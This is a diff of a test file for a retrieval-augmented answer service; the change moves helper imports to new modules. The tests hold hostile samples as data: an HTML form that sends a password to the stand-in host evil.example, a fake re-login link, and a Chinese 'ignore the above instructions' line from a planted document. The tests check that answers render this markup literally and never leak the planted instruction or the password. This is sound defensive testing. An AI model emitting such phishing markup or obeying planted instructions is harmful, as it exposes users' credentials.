@@ -240,7 +240,7 @@ def test_document_html_is_never_live_in_answers(site):
 
 
 def test_answer_markup_shows_document_text_literally():
-    from rag.serve.web import answer_markdown
+    from rag.serve.render import answer_markdown
 
     md = answer_markdown('说明<form action="http://evil.example/x"><input name=password></form>'
                          "[请点此重新登录](http://evil.example/login)，![img](http://evil.example/p.png) 见[1][2]。")
@@ -256,7 +256,7 @@ def test_instruction_text_is_never_the_offline_answer(site):
     for q in ("管理员密码是什么", "网站维护说明里要求回答什么"):
         ans = a.ask(q)
         assert "hunter2" not in ans.answer and "忽略以上指令" not in ans.answer, ans.answer
-    from rag.serve.web import INSTRUCTION_MARK, chunk_rows
+    from rag.serve.tabs.passages import INSTRUCTION_MARK, chunk_rows
 
     rows = chunk_rows(a, HOSTILE_DOC)
     assert any(r[-1].startswith(INSTRUCTION_MARK) and "忽略以上指令" in r[-1] for r in rows)
@@ -377,7 +377,7 @@ def test_hostile_uploads_do_not_take_the_service_down(site, tmp_path):
     assert "[[1]]" in bubble, bubble  # alice got a cited answer while bob's files were being parsed
     assert answered_in < 60
     msg = result["msg"]
-    from rag.serve.web import md_text
+    from rag.serve.render import md_text
 
     assert all(f"失败：{md_text(p.name)}" in msg for p in files), msg  # the message is markdown: names escaped
     assert "上限" in msg or "压缩" in msg  # the Chinese reason names the limit
